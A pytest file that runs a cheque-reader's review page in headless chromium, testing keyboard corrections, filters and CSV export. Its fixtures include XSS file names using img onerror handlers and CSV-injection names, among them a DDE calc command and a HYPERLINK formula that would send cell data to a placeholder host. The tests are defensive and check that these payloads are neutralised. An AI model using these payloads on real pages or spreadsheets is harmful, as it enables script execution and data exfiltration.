"""The review page in a real headless browser (Debian's chromium driven by playwright).

Opens the page from file://, corrects two reads with the keyboard, exports
corrections.csv and checks its content; a file named like an HTML tag must not run
script. Skips when chromium or playwright is missing, except in CI (``CI=true``),
where it fails instead. Set ``REVIEW_SCREENSHOT=/path.png`` to keep a screenshot.
"""

from __future__ import annotations

import io
import os
import shutil
from pathlib import Path

import cv2
import numpy as np
import pandas as pd
import pytest

from cheque_reader.review import load_corrections, write_review_page

pytestmark = pytest.mark.browser

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
XSS = "<img src=x onerror=alert(1)>.png"
XSS2 = '<img src=y onerror="window.__pwned=1">.png'
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
        "--disable-sync", "--no-first-run"]


@pytest.fixture(scope="module")
def browser():
    missing = []
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        missing.append("playwright is not installed (pip install playwright; no `playwright install` needed)")
    if not Path(CHROMIUM).exists():
        missing.append("Debian's chromium is not installed (apt-get install chromium)")
    if missing:
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail("browser test cannot run in CI: " + "; ".join(missing))
        pytest.skip("; ".join(missing))
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=ARGS)
        yield b
        b.close()


def field_scan(path: Path, text: str) -> None:
    img = np.full((220, 520), 255, np.uint8)
    cv2.rectangle(img, (40, 60), (480, 160), 120, 1)
    cv2.putText(img, text, (60, 135), cv2.FONT_HERSHEY_SCRIPT_SIMPLEX, 2.2, 20, 3, cv2.LINE_AA)
    path.write_bytes(cv2.imencode(".png", img)[1].tobytes())


@pytest.fixture
def review_page(tmp_path):
    return _write_page(tmp_path, everything=False)


def _write_page(tmp_path, everything):
    scans = tmp_path / "scans"
    scans.mkdir()
    names = [XSS, "b,1 \"x\".png", XSS2, "d.png"]
    for name, text in zip(names, ["70.71", "1,250", "33", "9.10"]):
        field_scan(scans / name, text)
    box = dict(field_x=40, field_y=60, field_w=440, field_h=100)
    results = pd.DataFrame(
        [
            dict(source=XSS, page=1, status="ok", digits="7071", text="70.71", confidence=0.2, needs_review="true",
                 review_reasons="low_confidence;grammar", **box),
            dict(source="b,1 \"x\".png", page=1, status="ok", digits="1290", text="1,290", confidence=0.5,
                 needs_review="true", review_reasons="low_confidence", **box),
            dict(source=XSS2, page=1, status="ok", digits="38", text="38", confidence=0.6, needs_review="true",
                 review_reasons="low_confidence", **box),
            dict(source="d.png", page=1, status="ok", digits="910", text="9.10", confidence=0.99,
                 needs_review="false", review_reasons="", **box),
        ]
    )
    digits = pd.DataFrame(
        [dict(source="b,1 \"x\".png", page=1, index=i, label=lab, confidence=c, x=x, y=18, w=60, h=70)
         for i, (lab, c, x) in enumerate([(1, 0.99, 25), (2, 0.97, 120), (9, 0.35, 210), (0, 0.7, 300)])]
    )
    return write_review_page(results, tmp_path / "review", digits=digits, image_root=scans, everything=everything)


def test_correct_two_reads_and_export(browser, review_page, tmp_path):
    context = browser.new_context(accept_downloads=True, viewport={"width": 1100, "height": 900})
    page = context.new_page()
    dialogs, errors = [], []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.goto(review_page.as_uri())
    page.wait_for_load_state("load")

    # worst first; the first input has the focus, holding the read value
    assert page.locator(".item").count() == 3
    assert page.evaluate("document.activeElement.dataset.id") == "1"
    assert page.input_value("#item-1 .fix") == "7071"

    # item 1: type the right digits (typing replaces the selected read), Enter moves on
    page.keyboard.type("7071")
    page.keyboard.press("Backspace")
    page.keyboard.type("1")
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.dataset.id") == "2"
    # item 2: a wrong key is refused, then the real correction typed with its separator
    page.keyboard.type("12a")
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.dataset.id") == "2"
    assert "digits only" in page.inner_text("#item-2 .state")
    page.keyboard.press("Control+A")
    page.keyboard.type("1,250")
    page.keyboard.press("Enter")
    # item 3: Tab moves on without accepting
    assert page.evaluate("document.activeElement.dataset.id") == "3"
    page.keyboard.press("Tab")
    assert page.inner_text("#progress") == "2 of 3 done"
    assert "accepted: 1250" in page.inner_text("#item-2 .state")

    # the filter by reason shows only matching reads
    page.select_option("#filter", "grammar")
    assert page.locator(".item:visible").count() == 1
    page.select_option("#filter", ":pending")
    assert page.locator(".item:visible").count() == 1
    page.select_option("#filter", "")

    # digit boxes are drawn, coloured by confidence
    assert page.locator("#item-2 .box").count() == 4
    page.screenshot(path=os.environ.get("REVIEW_SCREENSHOT", str(tmp_path / "review.png")), full_page=True)

    with page.expect_download() as info:
        page.click("#export")
    download = info.value
    assert download.suggested_filename == "corrections.csv"
    saved = tmp_path / "corrections.csv"
    download.save_as(saved)
    raw = saved.read_text(encoding="utf-8")
    assert raw.splitlines()[0] == "source,page,digits"
    got = load_corrections(saved)
    assert got.to_dict("list") == {"source": [XSS, "b,1 \"x\".png"], "page": [1, 1], "digits": ["7071", "1250"]}
    assert pd.read_csv(io.StringIO(raw), dtype=str)["digits"].tolist() == ["7071", "1250"]

    # untrusted names are shown as text and never run
    assert dialogs == [] and errors == []
    assert page.evaluate("window.__pwned === undefined")
    assert page.locator('img[src="x"], img[src="y"]').count() == 0
    assert XSS in page.inner_text("#item-1 .src")
    context.close()


def _reload_keeping_corrections(page) -> None:
    """Open the review page again (its corrections kept in localStorage); skip where file:// has none."""
    page.reload()
    page.wait_for_load_state("load")
    if page.inner_text("#progress") == "0 of 3 done":
        pytest.skip("this chromium gives file:// pages no localStorage")


def test_corrections_survive_reload(browser, review_page):
    context = browser.new_context()
    page = context.new_page()
    page.goto(review_page.as_uri())
    page.keyboard.type("5")
    page.keyboard.press("Enter")
    _reload_keeping_corrections(page)
    assert page.inner_text("#progress") == "1 of 3 done"
    assert page.input_value("#item-1 .fix") == "5"
    context.close()


def test_a_reopened_page_goes_on_at_the_first_read_not_yet_done(browser, review_page):
    """A reviewer who closed the page after two reads and opened it again had the focus on read #1,
    already done: Enter there accepted it again and moved on through done reads. The focus is now on
    the first read not yet done."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(review_page.as_uri())
    page.keyboard.press("Enter")
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.dataset.id") == "3"
    _reload_keeping_corrections(page)
    assert page.inner_text("#progress") == "2 of 3 done"
    assert page.evaluate("document.activeElement.dataset.id") == "3"
    context.close()


def test_the_show_menu_is_reached_from_the_first_read_by_keyboard(browser, review_page):
    """Shift+Tab on the first read did nothing, so a reviewer without a mouse reached the Show menu only by
    tabbing through every read (hundreds) to Export. It now goes to Export, and Shift+Tab again to Show."""
    page = browser.new_page()
    page.goto(review_page.as_uri())
    page.wait_for_load_state("load")
    assert page.evaluate("document.activeElement.dataset.id") == "1"
    page.keyboard.press("Shift+Tab")
    assert page.evaluate("document.activeElement.id") == "export"
    page.keyboard.press("Shift+Tab")
    assert page.evaluate("document.activeElement.id") == "filter"
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")  # back into the reads
    assert page.evaluate("document.activeElement.dataset.id") == "1"
    page.close()


def test_a_page_of_every_read_can_show_only_those_that_need_review(browser, tmp_path):
    page = browser.new_page()
    page.goto(_write_page(tmp_path, everything=True).as_uri())
    page.wait_for_load_state("load")
    assert page.locator(".item").count() == 4
    assert "(4 of 4 reads shown)" in page.inner_text("header")
    page.select_option("#filter", ":review")  # d.png, read with confidence 0.99, needs none
    assert page.locator(".item:visible").count() == 3
    assert "d.png" not in page.inner_text("main")
    assert "(3 of 4 reads shown)" in page.inner_text("header")  # it said 4 of 4 whatever the menu showed
    page.select_option("#filter", "")
    assert page.locator(".item:visible").count() == 4
    assert "(4 of 4 reads shown)" in page.inner_text("header")
    page.close()


def test_a_page_of_every_read_can_show_the_x937_items_whose_micr_amount_is_another(browser, tmp_path):
    """An accepted item whose read is not its MICR amount (an encoding error, or a misread) was on the
    page of every read with no way to pick it out."""
    scans = tmp_path / "scans"
    scans.mkdir()
    for name, text in [("a.png", "72.00"), ("b.png", "305"), ("c.png", "12")]:
        field_scan(scans / name, text)
    box = {"field_x": 40, "field_y": 60, "field_w": 440, "field_h": 100}
    results = pd.DataFrame([
        dict(source="a.png", page=1, status="ok", digits="7200", text="72.00", confidence=0.99, needs_review="false",
             review_reasons="", micr_amount="7.20", micr_match="false", **box),
        dict(source="b.png", page=1, status="ok", digits="305", text="305", confidence=0.98, needs_review="false",
             review_reasons="", micr_amount="305.00", micr_match="true", **box),
        dict(source="c.png", page=1, status="ok", digits="12", text="12", confidence=0.4, needs_review="true",
             review_reasons="low_confidence", micr_amount="12.00", micr_match="true", **box),
    ])
    page = browser.new_page()
    page.goto(write_review_page(results, tmp_path / "review", image_root=scans, everything=True).as_uri())
    page.wait_for_load_state("load")
    page.select_option("#filter", ":micr")
    assert page.locator(".item:visible").count() == 1
    assert "a.png" in page.inner_text(".item:visible") and "MICR amount 7.20 (not the amount read)" in page.inner_text(".item:visible")
    page.select_option("#filter", "")
    assert page.locator(".item:visible").count() == 3
    page.close()


def test_an_exported_name_a_spreadsheet_would_run_as_a_formula_is_escaped_and_read_back(browser, tmp_path):
    """File names are untrusted: exported as they were, ``=HYPERLINK(...)`` ran as a formula where a
    reviewer opened corrections.csv in a spreadsheet (CSV injection). Such a cell now starts with ``'``
    (as OWASP advises), and load_corrections gives back the names as they were, for finetune."""
    scans = tmp_path / "scans"
    scans.mkdir()
    names = ["=cmd|'-c calc'!A0.png", '=HYPERLINK("x.test?"&A1,"ok").png', "+1.png", "@sum.png", "'quoted.png", "-"]
    box = {"field_x": 40, "field_y": 60, "field_w": 440, "field_h": 100}
    rows = []
    for name in names:
        field_scan(scans / name, "12")
        rows.append(dict(source=name, page=1, status="ok", digits="12", text="12", confidence=0.3,
                         needs_review="true", review_reasons="low_confidence", **box))
    html = write_review_page(pd.DataFrame(rows), tmp_path / "review", image_root=scans)
    context = browser.new_context(accept_downloads=True)
    page = context.new_page()
    page.goto(html.as_uri())
    page.wait_for_load_state("load")
    for _ in names:
        page.keyboard.press("Enter")  # each read accepted as it is
    with page.expect_download() as info:
        page.click("#export")
    saved = tmp_path / "corrections.csv"
    info.value.save_as(saved)
    cells = pd.read_csv(saved, dtype=str, keep_default_na=False)["source"].tolist()
    assert all(c.startswith("'") for c in cells), cells  # no cell begins with = + - @ (or the escape itself)
    assert sorted(load_corrections(saved)["source"]) == sorted(names)
    context.close()
